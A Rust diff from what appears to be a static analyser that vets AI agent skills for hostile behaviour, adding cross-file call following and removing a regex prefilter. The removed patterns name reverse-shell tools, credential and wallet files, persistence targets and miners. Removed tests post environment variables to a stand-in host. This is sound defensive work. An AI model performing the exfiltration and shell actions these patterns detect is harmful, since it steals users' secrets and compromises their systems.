@@ -15,24 +15,39 @@
 //! written files, so a download in one block and its run in another are one flow.
 
 mod behaviours;
+mod commands;
+mod cooccur;
 mod decode;
 mod facts;
+mod gate;
+#[cfg(test)]
+mod invariance;
 mod knowledge;
 mod packages;
 mod powershell;
+mod program;
+mod prose;
 mod script;
 mod shell;
 mod units;
 
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 use std::path::{Path, PathBuf};
 
 use crate::checks::{Category, Diagnostic, FileReport, Severity, catalog};
 use crate::text::{LineIndex, Span};
 use facts::{Found, Taint, Val};
+use program::{DefId, DefKind, Program};
 
 /// Nested scripts deeper than this (`sh -c` of a decoded `eval` of ...) are not analysed.
 const MAX_DEPTH: usize = 6;
+
+/// Calls followed into the function they call, at most this deep (a call graph deeper than
+/// this is cut: the callee's result is what its arguments were made of).
+const MAX_CALL_DEPTH: usize = 5;
+/// Function bodies analysed per skill for calls at most: a skill's scripts are small, and
+/// one that calls its functions more often than this is analysed for the first calls only.
+const MAX_INLINED: usize = 400;
 
 /// Units larger than this are not parsed (a minified bundle is not a skill's script); they are
 /// named instead (SW329, [`unvetted`]).
@@ -74,15 +89,54 @@ pub(crate) fn parse(lang: Lang, text: &str) -> Option<tree_sitter::Tree> {
     })
 }
 
-/// What the analyses of one skill learn about its files as they go.
-#[derive(Debug, Default)]
-pub(crate) struct World {
+/// What the analyses of one skill learn about it as they go: the files its code writes and
+/// downloads, the state its functions share (class fields, module variables, the shell's
+/// variables across code blocks), which functions were called, git's staging.
+#[derive(Default)]
+pub(crate) struct World<'p> {
+    /// The skill's units and what they define, to follow calls into (None: a lone text).
+    pub prog: Option<&'p Program<'p>>,
     /// Files written or downloaded, by name (the last path segment), with their content.
     files: HashMap<String, Val>,
     depth: usize,
+    /// Fields of classes and objects (`Reporter.data`), merged over every method that sets
+    /// them: methods run in an order the analysis does not know.
+    pub fields: HashMap<String, Val>,
+    /// Module-level variables per file: what a function of that file reads when called.
+    pub globals: HashMap<usize, HashMap<String, Val>>,
+    /// Shell variables set at the top of a unit: the agent runs a skill's code blocks in one
+    /// session, so a later block sees them.
+    pub shell_env: HashMap<String, Val>,
+    /// Definitions some analysed code called.
+    pub called: HashSet<DefId>,
+    /// The calls being followed (to cut recursion) and how many bodies were analysed.
+    pub stack: Vec<DefId>,
+    pub inlined: usize,
+    /// What a call of a definition with arguments of a kind returned, so the same call is
+    /// followed once (see [`World::call_key`]).
+    pub memo: HashMap<(DefId, String), Val>,
+    /// Remotes `git remote add` named, and what `git add` staged for the next push.
+    pub remotes: HashMap<String, String>,
+    pub staged: Val,
+    /// Names bound to a literal list, by file: a loop over one runs once per element.
+    pub lists: HashMap<(usize, String), Vec<Val>>,
+    /// Units whose top level ran (a module runs once, when first imported or in order).
+    pub units_done: HashSet<usize>,
+    /// The names each unit imports, by unit.
+    pub imports: HashMap<usize, HashMap<String, String>>,
+    /// Downloaded archives (and clones) unpacked: the folder, the address, and whether it
+    /// was hidden on the way (a password). What runs from there is downloaded code.
+    pub extracted: Vec<(String, String, Taint)>,
 }
 
-impl World {
+impl<'p> World<'p> {
+    fn new(prog: &'p Program<'p>) -> World<'p> {
+        World {
+            prog: Some(prog),
+            ..World::default()
+        }
+    }
+
     fn key(path: &str) -> String {
         let p = path.trim_matches(['"', '\'']);
         p.rsplit(['/', '\\']).next().unwrap_or(p).to_string()
@@ -100,19 +154,84 @@ impl World {
 
     /// What reading the file gives, as far as this skill's code made it.
     pub fn file_val(&self, path: &str) -> Val {
-        if path.is_empty() || path.contains('…') {
+        if path.is_empty() || path.contains('…') && !knowledge::is_secret_path(path) {
             return Val::default();
         }
         let mut v = self
             .files
             .get(&Self::key(path))
             .cloned()
-            .unwrap_or_default();
+            .unwrap_or_else(|| self.unpacked(path));
         v.text = None;
-        if knowledge::is_secret_path(path) {
-            v.taint |= Taint::SECRET_FILE;
-        }
+        v.taint |= knowledge::path_taint(path);
         v
+    }
+
+    /// What a path inside a downloaded archive or clone that was unpacked holds.
+    fn unpacked(&self, path: &str) -> Val {
+        let p = path.trim_matches(['"', '\'']).trim_start_matches("./");
+        let inside = |dir: &str| {
+            let d = dir.trim_start_matches("./").trim_end_matches('/');
+            if d.is_empty() {
+                !p.contains('/') && !p.is_empty()
+            } else {
+                p.starts_with(&format!("{d}/"))
+            }
+        };
+        match self.extracted.iter().find(|(dir, _, _)| inside(dir)) {
+            Some((_, url, hidden)) => {
+                let mut v = Val::fetched((!url.is_empty()).then_some(url.as_str()));
+                v.taint |= *hidden;
+                v
+            }
+            None => Val::default(),
+        }
+    }
+
+    /// Every file the skill's code wrote with stolen data in it (what `git add -A` stages).
+    pub fn stolen_files(&self) -> Val {
+        Val::derived(self.files.values().filter(|v| v.taint.is_stolen()))
+    }
+
+    /// Whether a call of `def` is followed now (the call budget, the depth, no recursion);
+    /// either way the definition counts as called.
+    pub fn may_follow(&mut self, def: DefId) -> bool {
+        self.called.insert(def);
+        self.inlined < MAX_INLINED
+            && self.stack.len() < MAX_CALL_DEPTH
+            && !self.stack.contains(&def)
+    }
+
+    /// What distinguishes calls of a definition for the analysis: where each argument came
+    /// from, its secrets and addresses, and its text when it is a path or an address (a log
+    /// message's text changes nothing).
+    pub fn call_key(args: &[Val]) -> String {
+        let mut key = String::new();
+        for a in args {
+            let text = a
+                .text
+                .as_deref()
+                .filter(|t| t.contains(['/', '~', '\\']) || t.starts_with('.') || t.contains("://"))
+                .unwrap_or("");
+            key.push_str(&format!(
+                "{:?}|{}|{}|{};",
+                a.taint,
+                a.secrets.join(","),
+                a.urls.join(","),
+                crate::checks::spec::truncate(text, 120)
+            ));
+        }
+        key
+    }
+
+    /// Before analysing the body of `def` for a call.
+    pub fn enter(&mut self, def: DefId) {
+        self.inlined += 1;
+        self.stack.push(def);
+    }
+
+    pub fn leave(&mut self) {
+        self.stack.pop();
     }
 }
 
@@ -127,64 +246,142 @@ pub(crate) struct SourceFile<'t> {
 }
 
 /// The behaviour findings of one skill, per file, as diagnostics. `files` come SKILL.md first,
-/// then the others in walk order; Markdown files are cut into units, scripts are units.
+/// then the others in walk order; Markdown files are cut into units, scripts are units, and
+/// the whole is one program whose calls are followed across units and files.
 pub(crate) fn scan(own_name: &str, files: &[SourceFile<'_>]) -> Vec<(PathBuf, Vec<Diagnostic>)> {
-    let mut world = World::default();
-    let mut out = Vec::new();
+    let prog = Program::build(files);
+    let mut world = World::new(&prog);
+    let mut found = Found::default();
+    let mut unread: Vec<Diagnostic> = Vec::new();
     // Markdown first, then scripts: instructions that download a file come before the script
     // that runs it, whatever the walk order.
-    let mut order: Vec<&SourceFile<'_>> = files.iter().collect();
-    order.sort_by_key(|f| !f.rel.to_ascii_lowercase().ends_with(".md"));
-    for file in order {
-        let mut found = Found::default();
-        if is_markdown(file.rel) {
-            let (units, _prose) =
-                units::of_markdown(file.text, file.body_start.min(file.text.len()));
-            let mut unread = Vec::new();
-            for unit in units {
-                match too_large(&unit) {
-                    Some(span) => {
-                        let why = over_limit(span.len() as u64, UNIT_LIMIT);
-                        unread.push(unvetted(file.path, span, "this code block", &why));
-                    }
-                    None => found.extend(analyse_unit(&unit, &mut world)),
-                }
-            }
-            let mut diagnostics = to_diagnostics(file.path, behaviours::judge(&found, own_name));
-            diagnostics.extend(unread);
-            if !diagnostics.is_empty() {
-                out.push((file.path.to_path_buf(), diagnostics));
-            }
+    let mut order: Vec<usize> = (0..prog.units.len()).collect();
+    order.sort_by_key(|&i| !prog.units[i].markdown);
+    for (i, unit) in prog.units.iter().enumerate() {
+        if let (Some(tree), Lang::Python | Lang::JavaScript) = (&unit.tree, unit.lang) {
+            world
+                .imports
+                .insert(i, script::imports(unit, tree.root_node()));
+        }
+    }
+    for i in order {
+        if world.units_done.contains(&i) {
             continue;
         }
-        let Some(lang) = units::of_script(file.rel, file.text) else {
+        let unit = &prog.units[i];
+        let path = files[unit.file].path;
+        if unit.too_large {
+            let (span, what) = if unit.markdown {
+                (
+                    Span::new(unit.base, unit.base + unit.text.len()),
+                    "this code block",
+                )
+            } else {
+                (Span::empty(0), "this script")
+            };
+            let why = over_limit(unit.text.len() as u64, UNIT_LIMIT);
+            unread.push(unvetted(path, span, what, &why));
             continue;
-        };
-        let unit = units::Unit {
-            lang,
-            text: file.text.into(),
-            base: 0,
-        };
-        let unread = too_large(&unit).map(|_| {
-            let why = over_limit(file.text.len() as u64, UNIT_LIMIT);
-            unvetted(file.path, Span::empty(0), "this script", &why)
-        });
-        if unread.is_none() {
-            found.extend(analyse_unit(&unit, &mut world));
         }
-        let mut diagnostics = to_diagnostics(file.path, behaviours::judge(&found, own_name));
-        diagnostics.extend(unread);
-        if !diagnostics.is_empty() {
-            out.push((file.path.to_path_buf(), diagnostics));
+        if !unit.parse {
+            for (name, url) in &unit.downloads {
+                world.note_written(name, &Val::fetched(Some(url)));
+            }
+            found.extend(units::glance(unit, i));
+            continue;
+        }
+        world.units_done.insert(i);
+        found.extend(analyse_unit(&prog, i, &mut world));
+    }
+    // functions no analysed code called (entry points, callbacks, handlers) on their own
+    for (i, def) in prog.defs.iter().enumerate() {
+        let id = DefId(i);
+        if def.kind == DefKind::Function && !world.called.contains(&id) {
+            found.extend(analyse_alone(&prog, id, &mut world));
+        }
+    }
+    if std::env::var_os("SKILLWATCH_VET_DEBUG").is_some() {
+        eprintln!(
+            "inlined {} units {} parsed {} defs {} facts {}",
+            world.inlined,
+            prog.units.len(),
+            prog.units.iter().filter(|u| u.parse).count(),
+            prog.defs.len(),
+            found.facts.len()
+        );
+        for (i, u) in prog.units.iter().enumerate() {
+            eprintln!(
+                "unit {i} file {} lang {:?} parse {} md {} text {:?}",
+                u.file,
+                u.lang,
+                u.parse,
+                u.markdown,
+                crate::checks::spec::truncate(&u.text, 80)
+            );
+        }
+        for f in &found.facts {
+            eprintln!("fact {} {:?} {:?}", f.file, f.span, f.act);
+        }
+    }
+    let context = behaviours::Context::new(own_name, files, &prog);
+    let mut findings = behaviours::judge(&found, &context);
+    findings.extend(prose::judge(files, &context));
+    let net = cooccur::judge(&context, &findings);
+    findings.extend(net);
+    let mut out: Vec<(PathBuf, Vec<Diagnostic>)> = Vec::new();
+    for f in findings {
+        let path = files[f.file].path;
+        let d = Diagnostic {
+            rule: f.rule,
+            severity: f.severity,
+            path: path.to_path_buf(),
+            span: f.span,
+            message: f.message,
+            fix: None,
+        };
+        match out.iter_mut().find(|(p, _)| p == path) {
+            Some((_, list)) => list.push(d),
+            None => out.push((path.to_path_buf(), vec![d])),
+        }
+    }
+    for d in unread {
+        match out.iter_mut().find(|(p, _)| *p == d.path) {
+            Some((_, list)) => list.push(d),
+            None => out.push((d.path.clone(), vec![d])),
         }
     }
     out
 }
 
-/// The span of `unit` when it is too large to analyse.
-fn too_large(unit: &units::Unit<'_>) -> Option<Span> {
-    (unit.text.len() > MAX_UNIT_BYTES && unit.lang != Lang::Other)
-        .then(|| Span::new(unit.base, unit.base + unit.text.len()))
+/// The acts of one parsed unit.
+fn analyse_unit(prog: &Program<'_>, i: usize, world: &mut World) -> Found {
+    let unit = &prog.units[i];
+    let Some(tree) = &unit.tree else {
+        return match unit.lang {
+            Lang::PowerShell => powershell::analyse(&unit.text, unit.base, unit.file, world),
+            _ => Found::in_file(unit.file),
+        };
+    };
+    match unit.lang {
+        Lang::Shell => shell::analyse_unit(unit, tree.root_node(), world),
+        Lang::Python | Lang::JavaScript => {
+            let mut s = script::analyse_unit(unit, tree.root_node(), world);
+            s.file = unit.file;
+            s
+        }
+        Lang::PowerShell | Lang::Other => Found::in_file(unit.file),
+    }
+}
+
+/// A function nothing called, analysed with its parameters unknown.
+fn analyse_alone(prog: &Program<'_>, id: DefId, world: &mut World) -> Found {
+    world.called.insert(id);
+    let unit = &prog.units[prog.def(id).unit];
+    match unit.lang {
+        Lang::Shell => shell::call_alone(prog, id, world),
+        Lang::Python | Lang::JavaScript => script::call_alone(prog, id, world),
+        Lang::PowerShell | Lang::Other => Found::in_file(unit.file),
+    }
 }
 
 /// SW329: code the agent can run or read that vet did not analyse, and why. Static analysis
@@ -210,7 +407,7 @@ pub(crate) fn is_code_or_instructions(rel: &str, head: &[u8]) -> bool {
 }
 
 /// Whether the file is Markdown by its name: cut into code units rather than run as a script.
-fn is_markdown(rel: &str) -> bool {
+pub(crate) fn is_markdown(rel: &str) -> bool {
     let lower = rel.to_ascii_lowercase();
     [".md", ".markdown", ".mdx"]
         .iter()
@@ -227,358 +424,6 @@ fn size(bytes: u64) -> String {
         b if b >= 1 << 20 => format!("{:.1} MiB", b as f64 / f64::from(1u32 << 20)),
         b => format!("{} KiB", b.div_ceil(1024)),
     }
-}
-
-fn analyse_unit(unit: &units::Unit<'_>, world: &mut World) -> Found {
-    if unit.text.len() > MAX_UNIT_BYTES {
-        return Found::default();
-    }
-    if !worth_parsing(&unit.text, world) {
-        let mut run_here = false;
-        for (name, url) in gate::downloaded_names(&unit.text) {
-            // named again in the same unit: downloaded, then used here
-            run_here |= unit.text.matches(name.as_str()).count() > 1;
-            world.note_written(&name, &Val::fetched(Some(&url)));
-        }
-        if !run_here {
-            return Found::default();
-        }
-    }
-    let sliced = slice(&unit.text, unit.lang);
-    let unit = &units::Unit {
-        lang: unit.lang,
-        text: sliced,
-        base: unit.base,
-    };
-    match unit.lang {
-        Lang::Shell => shell::analyse(&unit.text, unit.base, world),
-        Lang::Python | Lang::JavaScript => script::analyse(unit.lang, &unit.text, unit.base, world),
-        Lang::PowerShell => powershell::analyse(&unit.text, unit.base, world),
-        Lang::Other => Found::default(),
-    }
-}
-
-fn to_diagnostics(path: &Path, findings: Vec<behaviours::Finding>) -> Vec<Diagnostic> {
-    findings
-        .into_iter()
-        .map(|f| Diagnostic {
-            rule: f.rule,
-            severity: f.severity,
-            path: path.to_path_buf(),
-            span: f.span,
-            message: f.message,
-            fix: None,
-        })
-        .collect()
-}
-
-/// The cheap test that decides whether a unit is parsed at all. Parsing is most of vet's
-/// cost and most code in skills holds nothing a behaviour rule judges, so each rule's
-/// necessary words are looked for first (with the regex crate's literal prefilters): a sink
-/// that is a finding alone (a shell over a socket, a privilege grant, a persistence target,
-/// a miner, an install), or a source together with the sink it needs (stolen data and a
-/// network call; a decoder and something that runs or sends; a download and something that
-/// runs it). The labeled corpus (tests/fixtures/vet, asserted by the e2e test `vet_corpus`)
-/// runs through this gate, so a class whose words are missing here fails there.
-mod gate {
-    use std::sync::LazyLock;
-
-    use regex::Regex;
-
-    fn re(pattern: &str) -> Regex {
-        let flat: String = pattern.lines().map(str::trim).collect();
-        crate::checks::pattern::compile(&flat)
-    }
-
-    static SINK: LazyLock<Regex> = LazyLock::new(|| {
-        re(
-            r#"(?i)/dev/(tcp|udp)/|\bnc\b[^\n]*\s-[ec]\b|\bncat\b|\bsocat\b|\bmkfifo\b|\bdup2\b|pty\.spawn|TCPClient|net\.Socket
-            |createConnection|net\.connect|socket\.socket|create_connection|\b(ba)?sh\s+-i\b
-            |sudoers|NOPASSWD|chmod\s+[^\n]*([ugoa]*\+s\b|\b[2467][0-7]{3}\b)|0o[2467][0-7]{3}|setcap|setuid|polkit|usermod|visudo
-            |nsenter|--privileged|-v\s*/:/|/etc/passwd|sudo\s+-S\b|docker\.sock
-            |\.bashrc|\.zshrc|\.bash_profile|\.zprofile|\.zshenv|/\.profile\b|crontab|/etc/cron|systemd/(system|user)/
-            |systemctl\s+(--user\s+)?enable|LaunchAgents|LaunchDaemons|authorized_keys|\.git/hooks|hooksPath|\.husky
-            |\.claude/(settings|skills|commands|agents)|\.codex/|\.agents/skills|CLAUDE\.md|AGENTS\.md|ld\.so\.preload|autostart
-            |rc\.local|config\.fish|/skills/
-            |stratum\+|\b(xmrig|xmr-stak|cpuminer|minerd|ccminer|nbminer|t-rex|lolminer|phoenixminer|ethminer|nanominer|gminer
-            |srbminer|teamredminer|cgminer|bfgminer|supportxmr|moneroocean|nanopool|minexmr|hashvault|2miners|f2pool|ethermine
-            |c3pool|herominers|unmineable|nicehash)\b|donate-level
-            |\bpip3?\s+install\b|-m\s+pip\s+install|\buv\s+(pip\s+install|add)\b|\bpoetry\s+add\b|\bpipx\s+install\b
-            |\bnpm\s+(i|install|add)\b|\byarn\s+add\b|\bpnpm\s+(add|i|install)\b|\bbun\s+add\b|\bnpx\s|\bbunx\s
-            |--extra-index-url|--index-url|--registry"#,
-        )
-    });
-    static STOLEN: LazyLock<Regex> = LazyLock::new(|| {
-        re(
-            r#"(?i)environ\s*[),}\]]|environ\.(copy|items|keys|values)|\*\*os\.environ|process\.env\s*[),}]|\.\.\.process\.env
-            |\(process\.env|\benv\s*\||\$\(\s*(env|printenv)\s*\)|\bprintenv\s*[|)]|`env`|Get-ChildItem\s+env:
-            |GetEnvironmentVariables|\.ssh/|\.aws/(credentials|config)|\.netrc|\.git-credentials|\.docker/config\.json
-            |\.kube/config|keychain|find-generic-password|Login Data|cookies\.sqlite|logins\.json|wallet\.dat|/etc/shadow
-            |\.env['"\s)]|\bid_(rsa|ed25519|ecdsa)"#,
-        )
-    });
-    static SECRET_VAR: LazyLock<Regex> =
-        LazyLock::new(|| re(r"[A-Z0-9]_(KEY|TOKEN|SECRET|PASSWORD|PASSWD)\b"));
-    /// Calls that send data out (a plain download sends nothing of the user's).
-    static SEND: LazyLock<Regex> = LazyLock::new(|| {
-        re(
-            r"(?i)\b(curl|wget)\b[^\n]*\s(-d|--data|--data-binary|--data-raw|--data-urlencode|-F|--form|-T|--upload-file
-            |--post-data|--post-file|--json)\b|\b(curl|wget)\b[^\n]*\?[^\n\s]*\$|\.(post|put|patch|send|sendall|sendto)\(
-            |urlopen\(|Request\(|\b(nc|ncat|scp|rsync|sftp|nslookup|dig|drill|socat|telnet)\b|gethostbyname|getaddrinfo
-            |resolver\.|sendBeacon|XMLHttpRequest|Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b|UploadString|UploadFile
-            |\bfetch\(|axios|smtplib|ftplib|\bdns\.|https?\.request\(|requests\.|exiftool|steghide",
-        )
-    });
-    static DECODE: LazyLock<Regex> = LazyLock::new(|| {
-        re(
-            r#"(?i)base64\s+(-d|--decode|-D)\b|b64decode|a2b_base64|\batob\(|fromhex|unhexlify|rot_?13|fromCharCode
-            |decompress|inflateSync|gunzipSync|xxd\s+-r|\[::-1\]|\.reverse\(\)|\|\s*rev\b|FromBase64String
-            |Buffer\.from\([^)]*(base64|hex)|\bchr\(|\$'\\x"#,
-        )
-    });
-    static DECODE_RUN: LazyLock<Regex> = LazyLock::new(|| {
-        re(r"(?i)pickle\.loads|marshal\.loads|\s-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{16}")
-    });
-    static EXEC: LazyLock<Regex> = LazyLock::new(|| {
-        re(
-            r"\b(exec|eval)\s*\(|\bFunction\(|runInNewContext|\beval\b|\bsource\b|\b(ba|z|da)?sh\b|os\.system|os\.popen
-            |subprocess|child_process|execSync|spawn|\biex\b|(?i:invoke-expression)|\bpython3?\s+-|\bnode\s+-e|\bperl\s+-e",
-        )
-    });
-    static PIPE_RUN: LazyLock<Regex> = LazyLock::new(|| {
-        re(
-            r"(?i)\|\s*(sudo\s+)?(ba|z|da|k)?sh\b|\|\s*(sudo\s+)?(python3?|node|perl|ruby|php)\s*(-\s*)?($|\||;|&)
-            |\|\s*iex\b|\biex\s*\(|<\(\s*(curl|wget)",
-        )
-    });
-    static FETCH: LazyLock<Regex> = LazyLock::new(|| {
-        re(
-            r"(?i)urlopen|urlretrieve|requests\.get|\bfetch\(|httpx\.get|axios|https?\.get\(|DownloadString|DownloadFile
-            |Invoke-WebRequest|\biwr\b|\birm\b|\bcurl\b|\bwget\b",
-        )
-    });
-    /// Code run from text (`model.eval()` is not: a method of that name).
-    static RUNS: LazyLock<Regex> = LazyLock::new(|| {
-        re(
-            r"(^|[^.\w])(exec|eval)\s*[(\x22$]|Function\(|\bsh\s+-c|bash\s+-c|\bsource\b|(?i:\biex\b)|\|\s*(ba)?sh\b
-            |runInNewContext|\bchmod\s+\+x|\bchmod\s+[0-7]*[157]\b",
-        )
-    });
-
-    /// Whether `text` may hold something a behaviour rule judges.
-    pub(super) fn open(text: &str) -> bool {
-        // a clean unit is read by each regex in turn: the ones that decide alone come first,
-        // and a source is looked for only once its sink is there
-        if SINK_OR_DECODE_RUN.is_match(text) {
-            return true;
-        }
-        let fetch = FETCH.is_match(text);
-        if fetch && (PIPE_RUN.is_match(text) || RUNS.is_match(text)) {
-            return true;
-        }
-        let send = SEND.is_match(text);
-        if send && STOLEN_OR_SECRET_VAR.is_match(text) {
-            return true;
-        }
-        let exec = || EXEC.is_match(text);
-        DECODE.is_match(text) && (send || exec()) || TO_FILE.is_match(text) && exec()
-    }
-
-    /// [`SINK`] and [`DECODE_RUN`] in one pass.
-    static SINK_OR_DECODE_RUN: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(&format!("{}|{}", flat_of(&SINK), flat_of(&DECODE_RUN)))
-            .expect("valid built-in regex")
-    });
-    /// [`STOLEN`] and [`SECRET_VAR`] in one pass.
-    static STOLEN_OR_SECRET_VAR: LazyLock<Regex> = LazyLock::new(|| {
-        Regex::new(&format!("{}|{}", flat_of(&STOLEN), flat_of(&SECRET_VAR)))
-            .expect("valid built-in regex")
-    });
-
-    /// The pattern a compiled gate regex was built from, as one group.
-    fn flat_of(re: &Regex) -> String {
-        format!("(?:{})", re.as_str())
-    }
-
-    /// Whether a piece of a unit holds any word some rule needs (a source or a sink alone).
-    pub(super) fn relevant(text: &str) -> bool {
-        SINK.is_match(text)
-            || STOLEN.is_match(text)
-            || SECRET_VAR.is_match(text)
-            || SEND.is_match(text)
-            || DECODE.is_match(text)
-            || DECODE_RUN.is_match(text)
-            || PIPE_RUN.is_match(text)
-            || FETCH.is_match(text)
-            || RUNS.is_match(text)
-            || EXEC.is_match(text)
-    }
-
-    /// Downloads that save a file (run later by name).
-    static TO_FILE: LazyLock<Regex> = LazyLock::new(|| {
-        re(
-            r"(?i)urlretrieve|wget\.download|DownloadFile|-OutFile|\b(curl|wget)\b[^\n]*\s(-o|-O|--output|--output-document)\b",
-        )
-    });
-
-    /// A download to a file in a unit not parsed: the file names it may have written, so a
-    /// later unit that runs one is parsed (`wget https://x/install.sh` here, `sh install.sh`
-    /// in the next block).
-    pub(super) fn downloaded_names(text: &str) -> Vec<(String, String)> {
-        static TO_FILE: LazyLock<Regex> = LazyLock::new(|| {
-            re(r#"(?i)\b(curl|wget|iwr|Invoke-WebRequest)\b[^\n]*?(https?://[^\s'"]+)"#)
-        });
-        let mut out = Vec::new();
-        for caps in TO_FILE.captures_iter(text) {
-            let (Some(line), Some(url)) = (caps.get(0), caps.get(2)) else {
-                continue;
-            };
-            let rest = &text[line.start()..];
-            let line = rest.split('\n').next().unwrap_or(rest);
-            let url = url.as_str().trim_end_matches(['"', '\'', ')']);
-            let last = url
-                .rsplit('/')
-                .next()
-                .unwrap_or("")
-                .split(['?', '#'])
-                .next()
-                .unwrap_or("");
-            for word in line.split_whitespace().chain(std::iter::once(last)) {
-                let w = word.trim_matches(['"', '\'']);
-                let named = w.rsplit('/').next().unwrap_or(w);
-                if named.len() > 2
-                    && named.contains('.')
-                    && !named.contains("://")
-                    && !named.starts_with('-')
-                {
-                    out.push((named.to_string(), url.to_string()));
-                }
-            }
-        }
-        out
-    }
-}
-
-/// Python and JavaScript units at least this long are sliced before parsing (see [`slice`]).
-const SLICE_FROM_BYTES: usize = 4096;
-/// Shell units at least this long are sliced (shell in skills is mostly short blocks, and a
-/// block of many commands is common).
-const SLICE_SHELL_FROM_BYTES: usize = 512;
-
-/// A long script with its top-level statements that hold no word any rule needs blanked
-/// (spaces, newlines kept: positions do not move), so the parser and the walk see only the
-/// statements that matter, plus every import and top-level assignment (the names the kept
-/// statements may use). A big script that passed the gate for one line costs one line's
-/// parse, not the file's. A statement is a line at column 0 and the indented or continued
-/// lines after it (for shell: also the lines a `\\`, pipe or `&&` continues, and a
-/// here-document's body).
-fn slice(text: &str, lang: Lang) -> std::borrow::Cow<'_, str> {
-    let sliceable = match lang {
-        Lang::Python | Lang::JavaScript => text.len() >= SLICE_FROM_BYTES,
-        Lang::Shell => text.len() >= SLICE_SHELL_FROM_BYTES,
-        Lang::PowerShell | Lang::Other => false,
-    };
-    if !sliceable {
-        return std::borrow::Cow::Borrowed(text);
-    }
-    let mut out = String::with_capacity(text.len());
-    let mut chunk_start = 0;
-    let mut pos = 0;
-    let flush = |out: &mut String, chunk: &str| {
-        let first = chunk.trim_start();
-        let keep = first.starts_with("import ")
-            || first.starts_with("from ")
-            || first.starts_with("const ")
-            || first.starts_with("let ")
-            || first.starts_with("var ")
-            || is_assignment(first)
-            || gate::relevant(chunk);
-        if keep {
-            out.push_str(chunk);
-        } else {
-            // every byte becomes one space, so offsets after the chunk stay the file's
-            for c in chunk.chars() {
-                if c == '\n' {
-                    out.push('\n');
-                } else {
-                    out.extend(std::iter::repeat_n(' ', c.len_utf8()));
-                }
-            }
-        }
-    };
-    let mut continued = false;
-    // the delimiter of the here-document being read: its body lines start no statement
-    let mut here_doc: Option<String> = None;
-    for line in text.split_inclusive('\n') {
-        if let Some(delimiter) = &here_doc {
-            if line.trim() == delimiter {
-                here_doc = None;
-            }
-            pos += line.len();
-            continue;
-        }
-        if lang == Lang::Shell {
-            here_doc = here_doc_delimiter(line);
-        }
-        let starts_statement = !continued
-            && line.starts_with(|c: char| {
-                !c.is_whitespace() && !matches!(c, ')' | ']' | '}' | '#' | '@')
-            })
-            && ![
-                "else", "elif", "except", "finally", "catch", "fi", "done", "esac", "then", "do",
-            ]
-            .iter()
-            .any(|k| line.starts_with(k));
-        // a shell line ending in `\`, a pipe or `&&` goes on on the next line
-        let end = line.trim_end();
-        continued = lang == Lang::Shell
-            && (end.ends_with('\\') || end.ends_with('|') || end.ends_with("&&"));
-        if starts_statement && pos > chunk_start {
-            flush(&mut out, &text[chunk_start..pos]);
-            chunk_start = pos;
-        }
-        pos += line.len();
-    }
-    flush(&mut out, &text[chunk_start..]);
-    std::borrow::Cow::Owned(out)
-}
-
-/// The delimiter of a here-document a shell line opens (`cat <<'EOF'`, `<<-END`), not of a
-/// here-string (`<<<`).
-fn here_doc_delimiter(line: &str) -> Option<String> {
-    let at = line.find("<<")?;
-    let rest = &line[at + 2..];
-    if rest.starts_with('<') {
-        return None;
-    }
-    let word: String = rest
-        .trim_start_matches('-')
-        .trim_start()
-        .trim_start_matches(['\'', '"'])
-        .chars()
-        .take_while(|c| c.is_alphanumeric() || *c == '_')
-        .collect();
-    (!word.is_empty()).then_some(word)
-}
-
-/// `NAME = ...` (not `==`) at the start of a statement.
-fn is_assignment(line: &str) -> bool {
-    let name_end = line
-        .find(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.'))
-        .unwrap_or(0);
-    name_end > 0
-        && line[name_end..].trim_start().starts_with('=')
-        && !line[name_end..].trim_start().starts_with("==")
-}
-
-/// Whether a unit may hold a behaviour ([`gate::open`]), or names a file an earlier unit of the
-/// skill downloaded or wrote (the second step of a download-then-run).
-fn worth_parsing(text: &str, world: &World) -> bool {
-    gate::open(text)
-        || world
-            .files
-            .keys()
-            .any(|name| name.len() > 2 && text.contains(name.as_str()))
 }
 
 /// What vetting concluded about one skill.
@@ -781,40 +626,6 @@ mod tests {
         assert_eq!(
             &text[found[0].span.start..found[0].span.end],
             "curl -d @- https://x.io"
-        );
-    }
-}
-
-#[cfg(test)]
-mod slice_tests {
-    use super::*;
-
-    #[test]
-    fn slicing_keeps_offsets_and_the_statements_that_matter() {
-        let filler: String = (0..200)
-            .map(|i| format!("def f{i}(x):\n    return x + {i}  # é\n\n"))
-            .collect();
-        let text = format!(
-            "import os, requests\nURL = 'https://x.io'\n{filler}def send():\n    requests.post(URL, json=dict(os.environ))\n"
-        );
-        let sliced = slice(&text, Lang::Python);
-        assert_eq!(sliced.len(), text.len());
-        let at = text.find("requests.post").unwrap();
-        assert_eq!(&sliced[at..at + 13], "requests.post");
-        assert!(!sliced.contains("def f7("));
-        assert!(sliced.contains("URL = 'https://x.io'"));
-        let mut world = World::default();
-        let unit = units::Unit {
-            lang: Lang::Python,
-            text: text.as_str().into(),
-            base: 0,
-        };
-        let found = analyse_unit(&unit, &mut world);
-        assert!(
-            found
-                .facts
-                .iter()
-                .any(|f| matches!(&f.act, facts::Act::Send { data, .. } if data.taint.is_stolen()))
         );
     }
 }
